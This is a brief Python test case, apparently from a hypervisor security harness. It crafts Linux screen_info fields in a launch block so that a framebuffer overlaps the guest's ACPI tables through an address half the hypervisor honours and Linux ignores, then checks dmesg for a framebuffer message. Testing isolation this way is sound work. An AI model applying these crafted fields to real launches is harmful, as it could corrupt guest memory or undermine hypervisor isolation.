"""A framebuffer over the guest's ACPI tables, with an upper half of the address that counts for the hypervisor and not for Linux."""

from harness import Attack

SCREEN = 64  # in the launch block: Linux's screen_info
GUEST_TABLES = "kept+0x160000"
FIELDS = {  # (offset, size): value
    (0x0f, 1): 0x23, (0x06, 1): 0, (0x12, 2): 320, (0x14, 2): 200, (0x16, 2): 32, (0x18, 4): GUEST_TABLES, (0x1c, 4): 4,
    (0x24, 2): 1280, (0x26, 4): 0x08081008, (0x2a, 4): 0x18080008, (0x36, 4): 0, (0x3a, 4): 1}

ATTACK = Attack("launcher", operations=[f"block {SCREEN + at} {size} {value}" for (at, size), value in FIELDS.items()],
                guest="if dmesg | grep -i 'framebuffer at 0x'; then exit 1; fi\necho 'no framebuffer'")
